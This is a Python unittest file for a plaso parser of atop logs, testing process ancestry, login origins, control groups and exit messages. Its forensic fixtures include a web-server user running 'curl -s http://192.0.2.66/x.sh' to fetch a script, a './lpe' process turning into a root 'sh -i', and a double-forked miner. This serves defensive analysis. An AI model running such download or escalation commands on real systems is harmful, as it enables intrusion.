"""Tests of where a process comes from and what became of it."""

import unittest

from plaso_atop import ancestors
from plaso_atop import layouts
from plaso_atop import rawlog

import log_builder
from tests.lib import process_test_lib

_CGROUPS = rawlog.FLAG_ACCOUNTING | rawlog.FLAG_IOSTAT | rawlog.FLAG_CGROUPS

_CONTAINER = b"f3" * 32


class ProcessStoryTest(process_test_lib.ProcessTestCase):
    """Tests of where a process comes from and what became of it."""

    def _GetLiving(self, pid, ppid, name, btime=-1000, cgpath=b"", **values):
        """Retrieves the entry of a living process.

        Args:
          pid (int): process identifier.
          ppid (int): process identifier of the parent process.
          name (bytes): name.
          btime (Optional[int]): time of the start relative to the first sample.
          cgpath (Optional[bytes]): path of the control group, 2.8 to 2.10.
          values (dict[str, object]): values of other members.

        Returns:
          dict[str, object]: values of the members.
        """
        values.setdefault("cmdline", b"/usr/bin/" + name)
        return self._GetTask(
            pid, btime, **{"cgpath": cgpath, "name": name, "ppid": ppid, **values}
        )

    def _GetExited(self, pid, ppid, name, btime, elaps=100, **values):
        """Retrieves the entry of an exit.

        Args:
          pid (int): process identifier.
          ppid (int): process identifier of the parent process.
          name (bytes): name.
          btime (int): time of the start relative to the first sample.
          elaps (Optional[int]): elapsed time in clock ticks of 10 ms.
          values (dict[str, object]): values of other members.

        Returns:
          dict[str, object]: values of the members.
        """
        values = {"cmdline": b"", "name": name, "ppid": ppid, **values}
        return self._GetExit(pid, btime, elaps=elaps, **values)

    def _GetStories(self, samples, attribute="ancestors", **kwargs):
        """Retrieves an attribute of the processes of a log.

        Args:
          samples (list[list[dict[str, object]]]): see _Parse.
          attribute (Optional[str]): name of the attribute.
          kwargs (dict[str, object]): see _Parse.

        Returns:
          dict[int, object]: value per process identifier, of the process that was
              started last.
        """
        events, _ = self._Parse(samples, **kwargs)
        events.sort(key=lambda event: event.start_time.timestamp)
        return {event.pid: getattr(event, attribute) for event in events}

    def testAncestors(self):
        """Tests the ancestors of living processes and of exits."""
        init = self._GetLiving(1, 0, b"systemd")
        sshd = self._GetLiving(607, 1, b"sshd")
        bash = self._GetLiving(9, 607, b"bash", 10)
        exits = [
            self._GetExited(11, 10, b"curl", 20),
            self._GetExited(10, 9, b"sh", 20),
        ]
        # A child is listed before its parent.
        for samples in (
            [[init, sshd], [init, sshd, bash, *exits]],
            [[sshd, init], [*exits, bash, sshd, init]],
        ):
            stories = self._GetStories(samples)
            self.assertEqual(
                stories,
                {
                    1: None,
                    607: "systemd[1]",
                    9: "systemd[1] > sshd[607]",
                    10: "systemd[1] > sshd[607] > bash[9]",
                    11: "systemd[1] > sshd[607] > bash[9] > sh[10]",
                },
            )

        # Of all versions.
        for version in layouts.VERSIONS:
            with self.subTest(version=version):
                stories = self._GetStories(samples, version=version)
                self.assertEqual(stories[9], "systemd[1] > sshd[607]")
                self.assertEqual(
                    stories[11], "systemd[1] > sshd[607] > bash[9] > sh[10]"
                )

    def testAncestorsUnknown(self):
        """Tests ancestors that the log does not show."""
        stories = self._GetStories(
            [
                [self._GetLiving(9, 8, b"bash"), self._GetLiving(10, 9, b"cat")],
                [
                    self._GetExited(12, 11, b"id", 10),
                    self._GetExited(13, 12, b"id", 10),
                ],
            ]
        )
        self.assertEqual(
            stories, {9: "[8]", 10: "[8] > bash[9]", 12: "[11]", 13: "[11] > id[12]"}
        )

        # The identifier 0 is that of none, and a process is not its own parent.
        tasks = [self._GetLiving(1, 0, b"init"), self._GetLiving(9, 9, b"odd")]
        self.assertEqual(self._GetStories([tasks]), {1: None, 9: None})

        # Process accounting of version 2 does not know the parent.
        exited = self._GetExited(0, 0, b"id", 10)
        (event,), _ = self._Parse([[], [exited]])
        self.assertIsNone(event.ancestors)

    def testAncestorsRenamed(self):
        """Tests that names are those of when a process was first listed."""
        systemd = self._GetLiving(1, 0, b"systemd")
        shell = self._GetLiving(9, 1, b"sh")
        renamed = self._GetLiving(9, 1, b"python3")
        child = self._GetLiving(10, 9, b"cat")
        grandchild = self._GetLiving(11, 10, b"tail")
        exited = self._GetExited(10, 9, b"cat", -1000)
        later_child = self._GetLiving(12, 9, b"tac", 1300)
        later_grandchild = self._GetLiving(13, 11, b"head", 1300)
        stories = self._GetStories(
            [
                [systemd, shell, child, grandchild],
                # An adoption changes nothing.
                [systemd, renamed, {**grandchild, "gen.ppid": 1}, exited],
                [systemd, renamed, grandchild, later_child, later_grandchild],
            ]
        )
        self.assertEqual(
            stories,
            {
                1: None,
                9: "systemd[1]",
                10: "systemd[1] > sh[9]",
                11: "systemd[1] > sh[9] > cat[10]",
                12: "systemd[1] > python3[9]",
                # The parent of the parent exited, and its parent has another name.
                13: "systemd[1] > python3[9] > cat[10] > tail[11]",
            },
        )

    def testAncestorsParentExits(self):
        """Tests a parent that exits before its child in the same sample."""
        init = self._GetLiving(1, 0, b"init")
        parent = self._GetLiving(9, 1, b"sh", 10)
        exits = [
            self._GetExited(9, 1, b"sh", 10, elaps=70000),
            self._GetExited(10, 9, b"id", 705, elaps=400),
        ]
        stories = self._GetStories([[init], [init, parent], [init, *exits]])
        self.assertEqual(stories[10], "init[1] > sh[9]")

        # The kernel has given it another parent when it exits, but it was seen before.
        child = self._GetLiving(10, 9, b"cat", 20)
        exits = [
            self._GetExited(9, 1, b"sh", 10, elaps=70000),
            self._GetExited(10, 1, b"cat", 20, elaps=90000),
        ]
        stories = self._GetStories([[init], [init, parent, child], [init, *exits]])
        self.assertEqual(stories[10], "init[1] > sh[9]")

        # A double fork, seen by nobody: what atop saw is the parent that adopted it.
        exits = [
            self._GetExited(9, 1, b"sh", 610, elaps=1),
            self._GetExited(10, 1, b"miner", 610, elaps=1000),
        ]
        daemon = self._GetLiving(11, 1, b"daemon", 610)
        stories = self._GetStories([[init], [init, daemon, *exits]])
        self.assertEqual(stories[10], "init[1]")
        self.assertEqual(stories[11], "init[1]")

        # A subreaper instead of init.
        manager = self._GetLiving(700, 1, b"systemd")
        daemon = self._GetLiving(11, 700, b"daemon", 610)
        stories = self._GetStories([[init, manager], [init, manager, daemon]])
        self.assertEqual(stories[11], "init[1] > systemd[700]")

    def testAncestorsPidReused(self):
        """Tests identifiers that other processes get within an interval."""
        init = self._GetLiving(1, 0, b"init")
        first = self._GetLiving(9, 1, b"first", -100)
        second = self._GetLiving(9, 1, b"second", 500)
        first_exit = self._GetExited(9, 1, b"first", -100, elaps=50000)

        for child, expected in (
            (self._GetExited(10, 9, b"child", 300), "first"),
            (self._GetExited(10, 9, b"child", 550), "second"),
            # The clocks of both entries differ by a second.
            (self._GetLiving(10, 9, b"child", 499), "second"),
            (self._GetLiving(10, 9, b"child", 550), "second"),
        ):
            for tasks in (
                [init, second, child, first_exit],
                [init, second, first_exit, child],
            ):
                stories = self._GetStories([[init, first], tasks])
                self.assertEqual(stories[10], f"init[1] > {expected:s}[9]")

        # One second apart, it matters which of them lived when the child exited.
        first_exit = self._GetExited(9, 1, b"first", -100, elaps=60000)
        second = self._GetLiving(9, 1, b"second", 501)
        for elaps, expected in ((100, "first"), (20000, "second")):
            child = self._GetExited(10, 9, b"child", 500, elaps=elaps)
            stories = self._GetStories(
                [[init, first], [init, second, first_exit, child]]
            )
            self.assertEqual(stories[10], f"init[1] > {expected:s}[9]")

        # None of them can be the parent.
        child = self._GetExited(10, 9, b"child", 300)
        stories = self._GetStories([[init], [init, second, child]])
        self.assertEqual(stories[10], "[9]")

        # The child has the identifier of another process too.
        second = self._GetLiving(9, 1, b"second", 500)
        other = self._GetLiving(10, 1, b"other", -100)
        child = self._GetLiving(10, 9, b"child", 550)
        other_exit = self._GetExited(10, 1, b"other", -100, elaps=55000)
        stories = self._GetStories(
            [[init, first, other], [init, second, child, first_exit, other_exit]]
        )
        self.assertEqual(stories[10], "init[1] > second[9]")

        # One that ended more than 2 seconds before was not the parent.
        for elapsed_seconds, expected in (
            (597, "[9]"),
            (598, "init[1] > first[9]"),
            (650, "init[1] > first[9]"),
        ):
            first_exit = self._GetExited(9, 1, b"first", -100, elapsed_seconds * 100)
            child = self._GetExited(10, 9, b"child", 500)
            stories = self._GetStories([[init, first], [init, first_exit, child]])
            self.assertEqual(stories[10], expected, elapsed_seconds)

    def testAncestorsLoop(self):
        """Tests identifiers of parents that go in a circle, in a forged log."""
        tasks = [
            self._GetLiving(8, 9, b"a"),
            self._GetLiving(9, 8, b"b"),
            self._GetLiving(10, 9, b"c"),
        ]
        exits = [
            self._GetExited(8, 9, b"a", 0),
            self._GetExited(9, 8, b"b", 0),
            self._GetExited(10, 9, b"c", 0),
        ]
        for entries in (tasks, exits):
            stories = self._GetStories([entries])
            self.assertEqual(stories, {8: "b[9]", 9: "a[8]", 10: "a[8] > b[9]"})

        later_task = self._GetLiving(11, 10, b"d", 100)
        stories = self._GetStories([tasks, [*tasks, later_task]])
        self.assertEqual(stories[11], "b[9] > c[10]")

        # One of three, which all parents of a long chain lead to.
        tasks = [self._GetLiving(8 + n, 8 + (n + 1) % 3, b"l") for n in range(3)]
        tasks += [self._GetLiving(100 + n, 99 + n, b"x") for n in range(200)]
        tasks.append(self._GetLiving(99, 8, b"x"))
        stories = self._GetStories([tasks])
        self.assertEqual(stories[8], "l[10] > l[9]")
        self.assertEqual(stories[299].count(" > "), ancestors.MAXIMUM_NUMBER)

    def testAncestorsBounds(self):
        """Tests what is left out of long ancestors."""

        def _GetStory(number, name=b"sh"):
            """Retrieves the ancestors of the last process of a chain.

            Args:
              number (int): number of its ancestors.
              name (Optional[bytes]): name of each.

            Returns:
              str: ancestors.
            """
            tasks = [self._GetLiving(1000, 0, name)]
            tasks += [
                self._GetLiving(1000 + index, 999 + index, name)
                for index in range(1, number + 1)
            ]
            return self._GetStories([tasks])[1000 + number]

        names = [f"sh[{1000 + index:d}]" for index in range(20)]
        self.assertEqual(_GetStory(16), " > ".join(names[:16]))
        self.assertEqual(_GetStory(17), " > ".join(["...", *names[1:17]]))
        self.assertEqual(_GetStory(20), " > ".join(["...", *names[4:20]]))

        # Whole ancestors are left out. Each has 60 + 6 characters and 3 between them.
        name = "\\x01" * 15
        names = [f"{name:s}[{1000 + index:d}]" for index in range(8)]
        self.assertEqual(_GetStory(7, b"\x01" * 15), " > ".join(names[:7]))
        story = _GetStory(8, b"\x01" * 15)
        self.assertEqual(story, " > ".join(["...", *names[1:8]]))
        self.assertLessEqual(len(story), ancestors.MAXIMUM_LENGTH)

    def testAncestorsForgedNames(self):
        """Tests names that look like other ancestors."""
        tasks = [
            self._GetLiving(1, 0, b"init"),
            self._GetLiving(9, 1, b"x[1] > sshd"),
            self._GetLiving(10, 9, b"=a\x1b[2J\xff"),
            self._GetLiving(11, 10, b"id"),
        ]
        self.assertEqual(
            self._GetStories([tasks])[11],
            "init[1] > x[1] \\x3e sshd[9] > =a\\x1b[2J\\xff[10]",
        )

    def testThreads(self):
        """Tests that threads are no ancestors and have no story."""
        process = self._GetLiving(9, 1, b"java", nthr=2)
        thread = self._GetLiving(10, 1, b"worker", isproc=0, tgid=9)
        child = self._GetLiving(11, 10, b"sh")
        self.assertEqual(
            self._GetStories([[process, thread, child]]), {9: "[1]", 11: "[10]"}
        )

    def testZombies(self):
        """Tests processes that are first listed as zombies."""
        init = self._GetLiving(1, 0, b"systemd", cgpath=b"/init.scope")
        bash = self._GetLiving(
            9, 1, b"bash", cgpath=b"/user.slice/user-1000.slice/session-3.scope"
        )
        zombie = self._GetLiving(10, 9, b"sh", 10, state=b"Z", cmdline=b"")
        exited = self._GetExited(10, 9, b"sh", 10, elaps=100)
        samples = [[init, bash], [init, bash, zombie, exited], [init, bash, zombie]]
        kwargs = {"flags": _CGROUPS, "version": "2.10"}
        events, _ = self._Parse(samples, **kwargs)
        (event,) = [event for event in events if event.pid == 10]
        self.assertEqual(event.ancestors, "systemd[1] > bash[9]")
        self.assertEqual(event.login_session, "3")
        self.assertTrue(event.is_inherited)

        # Their parents are zombies too.
        child = self._GetExited(11, 10, b"id", 10, elaps=10)
        samples[1].append(child)
        self.assertEqual(
            self._GetStories(samples, **kwargs)[11], "systemd[1] > bash[9] > sh[10]"
        )

    def testLogin(self):
        """Tests from which login processes come."""
        # OpenSSH before and since 9.8, and dropbear.
        for daemon, connection, user_connection in (
            (b"sshd", b"sshd", b"sshd"),
            (b"sshd", b"sshd-session", b"sshd-session"),
            (b"dropbear", b"dropbear", None),
        ):
            with self.subTest(daemon=daemon, connection=connection):
                tasks = [
                    self._GetLiving(1, 0, b"systemd"),
                    self._GetLiving(607, 1, daemon),
                    self._GetLiving(700, 607, connection),
                    self._GetLiving(702, 701, b"bash"),
                    self._GetLiving(703, 702, b"sudo"),
                    self._GetLiving(704, 703, b"su"),
                    self._GetLiving(705, 704, b"nohup"),
                    self._GetLiving(706, 702, b"screen"),
                    self._GetLiving(800, 1, b"cron"),
                    self._GetLiving(801, 800, b"sh"),
                    self._GetExited(710, 607, connection, -10),
                    self._GetExited(711, 710, connection, -10),
                    self._GetExited(712, 711, b"scp", -10),
                ]
                if user_connection:
                    tasks.append(self._GetLiving(701, 700, user_connection))
                else:
                    tasks[3]["gen.ppid"] = 700
                stories = self._GetStories([tasks], attribute="login_pid")
                for pid in (1, 607, 800, 801):
                    self.assertIsNone(stories[pid], pid)
                for pid in (700, 702, 703, 704, 705, 706):
                    self.assertEqual(stories[pid], 700)
                for pid in (710, 711, 712):
                    self.assertEqual(stories[pid], 710)

        # On a console getty becomes login, which is a change.
        getty = self._GetLiving(500, 1, b"agetty")
        login = self._GetLiving(500, 1, b"login")
        shell = self._GetLiving(501, 500, b"bash", 700)
        events, changes = self._Parse([[getty], [login], [login, shell]])
        self.assertEqual({event.login_pid for event in events}, {500})
        self.assertEqual([change.login_pid for change in changes], [500])

        # Only the exit shows a login that is over before the next sample.
        exits = [
            self._GetExited(500, 1, b"login", -1000, elaps=150000),
            self._GetExited(501, 500, b"bash", 100),
        ]
        for tasks in (exits, exits[::-1]):
            stories = self._GetStories([[getty], tasks], attribute="login_pid")
            self.assertEqual(stories, {500: 500, 501: 500})

    def testLoginWithoutListener(self):
        """Tests connections whose parent process is no listening daemon."""
        for cmdline, expected in (
            # The one that listened was restarted before the log begins.
            (b"sshd: alice [priv]", 700),
            (b"sshd: root@pts/0", 700),
            # One per connection.
            (b"/usr/sbin/sshd -i", 700),
            (b"/usr/sbin/sshd -D -e", None),
            (b"sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", None),
        ):
            tasks = [
                self._GetLiving(1, 0, b"systemd"),
                self._GetLiving(700, 1, b"sshd", cmdline=cmdline),
                self._GetLiving(701, 700, b"bash"),
            ]
            stories = self._GetStories([tasks], attribute="login_pid")
            self.assertEqual((stories[700], stories[701]), (expected, expected))

        # The process of the user has the same name.
        tasks = [
            self._GetLiving(1, 0, b"systemd"),
            self._GetLiving(700, 1, b"sshd", cmdline=b"sshd: alice [priv]"),
            self._GetLiving(701, 700, b"sshd", cmdline=b"sshd: alice@pts/0"),
            self._GetLiving(702, 701, b"bash"),
        ]
        stories = self._GetStories([tasks], attribute="login_pid")
        self.assertEqual([stories[pid] for pid in (700, 701, 702)], [700] * 3)

        # It is not known which process is the connection.
        tasks[2] = self._GetLiving(701, 700, b"bash")
        tasks[1] = self._GetLiving(700, 699, b"sshd", cmdline=b"sshd: alice@pts/0")
        self.assertIsNone(self._GetStories([tasks], attribute="login_pid")[701])
        exits = [
            self._GetExited(701, 700, b"sshd", 10),
            self._GetExited(702, 701, b"sshd", 10),
        ]
        stories = self._GetStories([[], exits], attribute="login_pid")
        self.assertEqual(stories, {701: None, 702: None})

        # A daemon that somebody started is no login, a connection to it is one.
        tasks = [
            self._GetLiving(1, 0, b"systemd"),
            self._GetLiving(607, 1, b"sshd"),
            self._GetLiving(700, 607, b"sshd"),
            self._GetLiving(701, 700, b"bash"),
            self._GetLiving(702, 701, b"sshd", cmdline=b"sshd -D -p 2222"),
            self._GetLiving(703, 702, b"sshd"),
            self._GetLiving(704, 703, b"bash"),
        ]
        stories = self._GetStories([tasks], attribute="login_pid")
        self.assertEqual([stories[pid] for pid in (702, 703, 704)], [700, 703, 703])

    def testOrigin(self):
        """Tests session, unit and container of a control group."""
        user = b"/user.slice/user-1000.slice"
        docker = b"/system.slice/docker-" + _CONTAINER + b".scope"
        for path, expected in (
            (b"/", (None, None, None)),
            (user + b"/session-418.scope", ("418", None, None)),
            (user + b"/session-c2.scope", ("c2", None, None)),
            (b"/system.slice/ssh.service", (None, "ssh.service", None)),
            (
                user + b"/user@1000.service/app.slice/run-r1.scope",
                (None, "run-r1.scope", None),
            ),
            (b"/system.slice/a\x1b.service", (None, "a\\x1b.service", None)),
            (docker, (None, docker[14:].decode("ascii"), "f3f3f3f3f3f3")),
            (b"/docker/" + _CONTAINER, (None, None, "f3f3f3f3f3f3")),
            (b"/kubepods/pod1/" + _CONTAINER, (None, None, "f3f3f3f3f3f3")),
            (b"/k.slice:cri-containerd:" + _CONTAINER, (None, None, "f3f3f3f3f3f3")),
            (b"/libpod-" + _CONTAINER + b"/container", (None, None, "f3f3f3f3f3f3")),
            # The process that watches the container.
            (b"/libpod-conmon-" + _CONTAINER, (None, None, None)),
            (b"/docker/" + _CONTAINER[:-1], (None, None, None)),
            # Version 1 of control groups, beside version 2.
            (b"/systemd" + user + b"/session-4.scope", ("4", None, None)),
            (b"/pids/docker/" + _CONTAINER, (None, None, "f3f3f3f3f3f3")),
        ):
            with self.subTest(path=path):
                names = path.split(b"/")[1:]
                cgroups = [log_builder.Cgroup(b"", -1, [], {})]
                for index, name in enumerate(names):
                    pids = [9] if index == len(names) - 1 else []
                    cgroups.append(log_builder.Cgroup(name, index, pids, {}))
                if path == b"/":
                    cgroups = [log_builder.Cgroup(b"", -1, [9], {})]
                (event,), _ = self._Parse(
                    [[self._GetLiving(9, 0, b"x")]], records={"cgroups": cgroups}
                )
                self.assertEqual(event.cgroup, path.decode().replace("\x1b", "\\x1b"))
                self.assertEqual(
                    (
                        event.login_session,
                        event.systemd_unit,
                        event.container_identifier,
                    ),
                    expected,
                )
                self.assertIsNone(event.is_inherited)

    def testOriginCut(self):
        """Tests paths of control groups that atop cut."""
        start = b"/system.slice/"
        for name, expected in (
            (b"a" * (62 - len(start) - 8) + b".service", True),
            # It may be the start of a longer name.
            (b"a" * (63 - len(start) - 8) + b".service", False),
            (b"app.service/" + b"a" * 60, True),
        ):
            task = self._GetLiving(9, 0, b"x", cgpath=(start + name)[:63])
            (event,), _ = self._Parse([[task]], flags=_CGROUPS, version="2.10")
            self.assertEqual(event.systemd_unit is not None, expected)

    def testInherited(self):
        """Tests the session and unit of processes without a control group."""
        session = b"/user.slice/user-1000.slice/session-3.scope"
        tasks = [
            self._GetLiving(1, 0, b"systemd", cgpath=b"/init.scope"),
            self._GetLiving(8, 1, b"nginx", cgpath=b"/system.slice/nginx.service"),
            self._GetLiving(9, 607, b"bash", cgpath=session),
            self._GetLiving(607, 1, b"sshd", cgpath=b"/system.slice/ssh.service"),
            self._GetLiving(
                50, 1, b"containerd-shim", cgpath=b"/system.slice/containerd.service"
            ),
            self._GetLiving(52, 1, b"conmonrs", cgpath=b"/system.slice/crio.service"),
            self._GetLiving(54, 9, b"lxc-attach", cgpath=session),
        ]
        exits = [
            # A child is listed before its parent.
            self._GetExited(12, 11, b"id", 10),
            self._GetExited(11, 9, b"sh", 10),
            self._GetExited(13, 8, b"sh", 10),
            # systemd put it elsewhere, and so did the login daemon and a container.
            self._GetExited(51, 50, b"sh", 10),
            self._GetExited(14, 1, b"fstrim", 10),
            self._GetExited(15, 607, b"sshd", 10),
            self._GetExited(16, 15, b"scp", 10),
            self._GetExited(53, 52, b"sh", 10),
            self._GetExited(55, 54, b"sh", 10),
        ]
        events, _ = self._Parse([tasks, tasks + exits], flags=_CGROUPS, version="2.10")
        stories = {
            event.pid: (event.login_session, event.systemd_unit, event.is_inherited)
            for event in events
        }
        self.assertEqual(
            stories,
            {
                1: (None, "init.scope", None),
                8: (None, "nginx.service", None),
                9: ("3", None, None),
                11: ("3", None, True),
                12: ("3", None, True),
                13: (None, "nginx.service", True),
                14: (None, None, None),
                15: (None, None, None),
                16: (None, None, None),
                50: (None, "containerd.service", None),
                51: (None, None, None),
                52: (None, "crio.service", None),
                53: (None, None, None),
                54: ("3", None, None),
                55: (None, None, None),
                607: (None, "ssh.service", None),
            },
        )

        # Before 2.8 there is none.
        events, _ = self._Parse([tasks, tasks + exits], version="2.7")
        for event in events:
            self.assertIsNone(event.login_session)
            self.assertIsNone(event.systemd_unit)
            self.assertIsNone(event.is_inherited)

    def testInheritedContainer(self):
        """Tests the container of processes with only their exit in the log."""
        flags = rawlog.FLAG_ACCOUNTING | rawlog.FLAG_CONTAINERS
        for version, member, attribute in (
            ("2.9", "container", "container_identifier"),
            ("2.10", "utsname", "container_name"),
        ):
            tasks = [
                self._GetLiving(8, 1, b"containerd-shim"),
                self._GetLiving(9, 8, b"nginx", **{member: b"0123456789ab"}),
            ]
            exits = [
                self._GetExited(12, 11, b"id", 10),
                self._GetExited(11, 9, b"sh", 10),
                # What docker exec starts is in a container, but in which?
                self._GetExited(13, 8, b"sh", 10),
            ]
            events, _ = self._Parse(
                [tasks, tasks + exits], flags=flags, version=version
            )
            stories = {
                event.pid: (getattr(event, attribute), event.is_inherited)
                for event in events
            }
            self.assertEqual(
                stories,
                {
                    8: (None, None),
                    9: ("0123456789ab", None),
                    11: ("0123456789ab", True),
                    12: ("0123456789ab", True),
                    13: (None, None),
                },
            )

    def testOriginOfDaemons(self):
        """Tests what starts processes outside of the session of who started it."""
        session = b"/user.slice/user-1000.slice/session-3.scope"
        tasks = [
            self._GetLiving(1, 0, b"systemd", cgpath=b"/init.scope"),
            # screen and tmux leave their parent, but not the session.
            self._GetLiving(20, 1, b"tmux: server", cgpath=session),
            self._GetLiving(21, 20, b"bash", cgpath=session),
            # systemd-run has a service started.
            self._GetLiving(30, 1, b"miner", cgpath=b"/system.slice/run-r2.service"),
            self._GetLiving(40, 1, b"atd", cgpath=b"/system.slice/atd.service"),
            self._GetLiving(41, 40, b"sh", cgpath=b"/system.slice/atd.service"),
            self._GetLiving(50, 1, b"cron", cgpath=b"/system.slice/cron.service"),
            self._GetLiving(51, 50, b"cron", cgpath=b"/system.slice/cron.service"),
            self._GetExited(52, 51, b"sh", -10),
            # Where its name is crond each job has a session.
            self._GetLiving(60, 1, b"crond", cgpath=b"/system.slice/crond.service"),
            self._GetLiving(61, 60, b"crond", cgpath=session),
            self._GetExited(62, 61, b"sh", -10),
            self._GetExited(63, 60, b"crond", -10),
            self._GetExited(64, 63, b"sh", -10),
        ]
        events, _ = self._Parse([tasks], flags=_CGROUPS, version="2.10")
        stories = {
            event.pid: (
                event.ancestors,
                event.login_session,
                event.login_pid,
                event.systemd_unit,
            )
            for event in events
        }
        del stories[1]
        self.assertEqual(
            stories,
            {
                20: ("systemd[1]", "3", None, None),
                21: ("systemd[1] > tmux: server[20]", "3", None, None),
                30: ("systemd[1]", None, None, "run-r2.service"),
                40: ("systemd[1]", None, None, "atd.service"),
                41: ("systemd[1] > atd[40]", None, None, "atd.service"),
                50: ("systemd[1]", None, None, "cron.service"),
                51: ("systemd[1] > cron[50]", None, None, "cron.service"),
                52: ("systemd[1] > cron[50] > cron[51]", None, None, "cron.service"),
                60: ("systemd[1]", None, None, "crond.service"),
                61: ("systemd[1] > crond[60]", "3", None, None),
                62: ("systemd[1] > crond[60] > crond[61]", "3", None, None),
                63: ("systemd[1] > crond[60]", None, None, None),
                64: ("systemd[1] > crond[60] > crond[63]", None, None, None),
            },
        )

    def testLast(self):
        """Tests what processes were at their end."""
        first = self._GetLiving(9, 1, b"lpe", -10, cmdline=b"./lpe", ruid=33)
        changed = self._GetLiving(9, 1, b"sh", -10, cmdline=b"sh -i", ruid=0)
        (event,), changes = self._Parse([[first], [changed]])
        self.assertEqual(len(changes), 1)
        self.assertEqual(event.number_of_changes, 1)
        self.assertEqual(event.process_name, "lpe")
        self.assertEqual(event.user_identifier, 33)
        self.assertEqual(event.last_process_name, "sh")
        self.assertEqual(event.last_command_line, "sh -i")
        self.assertEqual(event.last_user_identifier, 0)
        for change in changes:
            self.assertEqual(change.ancestors, event.ancestors)
            self.assertTrue(change.running_at_log_start)

        # What the entry of the exit has is later, but no event of its own.
        exited = self._GetExited(9, 1, b"cat", -10, elaps=100000, ruid=0)
        (event,), changes = self._Parse([[first], [exited]])
        self.assertEqual(changes, [])
        self.assertIsNone(event.number_of_changes)
        self.assertEqual(event.last_process_name, "cat")
        self.assertIsNone(event.last_command_line)
        self.assertEqual(event.last_user_identifier, 0)

        # It is the name of any thread.
        first["gen.nthr"] = 2
        (event,), _ = self._Parse([[first], [exited]])
        self.assertIsNone(event.last_process_name)

        # Nothing changed.
        exited = self._GetExited(9, 1, b"lpe", -10, elaps=100000, ruid=33)
        (event,), _ = self._Parse([[first], [exited]])
        for name in (
            "last_process_name",
            "last_command_line",
            "last_user_identifier",
            "last_username",
            "number_of_changes",
        ):
            self.assertIsNone(getattr(event, name), name)

        # Threads of the kernel rename themselves all the time.
        threads = [
            self._GetLiving(9, 2, name, cmdline=b"") for name in (b"kworker/0:1", b"k")
        ]
        (event,), _ = self._Parse([[threads[0]], [threads[1]]])
        self.assertIsNone(event.last_process_name)

    def testObserved(self):
        """Tests for how long processes were observed, and which are new."""
        old = self._GetLiving(1, 0, b"init", -500)
        new = self._GetLiving(9, 1, b"new", 100)
        exited = self._GetExited(10, 1, b"id", 700, elaps=1234)
        samples = [[old], [old, new], [old, exited], None, [old]]
        events, _ = self._Parse(samples)
        self.assertEqual(
            {
                event.pid: (event.observed_seconds, event.running_at_log_start)
                for event in events
            },
            {1: (500 + 1800, True), 9: (500, None), 10: (12, None)},
        )

        # Before 2.3 only what was active is listed.
        stories = self._GetStories(
            samples[:3], attribute="observed_seconds", version="2.2"
        )
        self.assertEqual(stories[9], 500)

        # The clock was set back.
        (event,), _ = self._Parse([[self._GetLiving(9, 1, b"x", 100)]])
        self.assertIsNone(event.observed_seconds)

    def testExitTime(self):
        """Tests that a process that lived for less than a second has one row."""
        for elaps, expected in (
            (0, {"start": 10}),
            (99, {"start": 10}),
            (100, {"start": 10, "exit": 11}),
        ):
            (event,), _ = self._Parse([[], [self._GetExited(9, 1, b"id", 10, elaps)]])
            self.assertEqual(self._GetTimes(event), expected)
            self.assertEqual(event.elapsed_time, elaps * 10)
            self.assertEqual(event.exit_code, 0)
            self.assertIn(
                f"Exit code: 0 Elapsed: {elaps * 10:d} ms", self._GetMessages(event)[0]
            )

        # Process accounting has the start a second earlier.
        zombie = self._GetLiving(9, 1, b"id", 10, state=b"Z")
        exited = self._GetExited(9, 1, b"id", 9, elaps=50)
        (event,), _ = self._Parse([[], [zombie, exited]])
        self.assertEqual(self._GetTimes(event), {"start": 10})

        # In 1.23 it is not known how long it ran.
        exited = self._GetExited(9, 1, b"id", 10)
        (event,), _ = self._Parse([[], [exited]], version="1.23")
        self.assertEqual(self._GetTimes(event), {"start": 10, "exit": 600})
        self.assertTrue(event.exit_time_estimated)

    def testMessages(self):
        """Tests the messages."""
        values = {"ppid": 4700, "ruid": 33, "euid": 33}
        parent = self._GetLiving(4700, 1, b"bash")
        curl = self._GetLiving(
            4711, name=b"curl", cmdline=b"curl -s http://192.0.2.66/x.sh", **values
        )
        exited = self._GetExited(
            4711, name=b"curl", btime=-1000, cpu__utime=12, **values
        )
        events, _ = self._Parse([[parent, curl], [parent, exited]])
        (event,) = [event for event in events if event.pid == 4711]
        event.username = "www-data"
        self.assertEqual(
            self._GetMessages(event),
            (
                "Process: curl PID: 4711 User: www-data UID: 33 Effective UID: 33 "
                "Parent: bash Parent PID: 4700 Command line: curl -s "
                "http://192.0.2.66/x.sh Exit code: 0 Elapsed: 1000 ms Total User CPU: "
                "120 ms",
                # Plaso cuts it.
                "Process: curl PID: 4711 User: www-data Command line: curl -s "
                "http://192.0.2.6...",
            ),
        )

        # It vanished.
        events, _ = self._Parse([[parent, curl], [parent], [parent]])
        (event,) = [event for event in events if event.pid == 4711]
        self.assertEqual(
            self._GetMessages(event)[0],
            "Process: curl PID: 4711 UID: 33 Effective UID: 33 Parent: bash Parent "
            "PID: 4700 Command line: curl -s http://192.0.2.66/x.sh Exit: not recorded",
        )

        # It changed, and is a zombie.
        zombie = {**curl, "gen.state": b"Z", "gen.name": b"sh", "gen.ruid": 0}
        (event,), _ = self._Parse([[curl], [zombie]])
        event.last_username = "root"
        message, _ = self._GetMessages(event)
        self.assertIn(" Later: sh User later: root UID later: 0 ", message)
        self.assertTrue(message.endswith(" Last state: zombie"), message)


if __name__ == "__main__":
    unittest.main()
